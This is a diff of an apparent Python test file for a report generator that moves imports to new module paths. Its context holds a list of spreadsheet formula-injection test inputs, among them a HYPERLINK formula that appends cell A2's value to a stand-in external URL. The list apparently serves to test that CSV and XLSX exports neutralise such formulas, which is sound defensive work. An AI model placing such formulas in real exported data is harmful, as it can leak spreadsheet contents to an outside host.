@@ -10,9 +10,9 @@ import zipfile
 import pytest
 
 from generator.analysis import analyse
-from generator.downloads import CSV, XLSX
-from generator.load import load_plan_text
-from generator.render import render
+from generator.pages.downloads import CSV, XLSX
+from generator.io.load import load_plan_text
+from generator.pages.render import render
 from safety_support import dump_plan, example_data
 
 FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A2,"klik")', "+1+1", "-2+3", "@SUM(1,1)"]
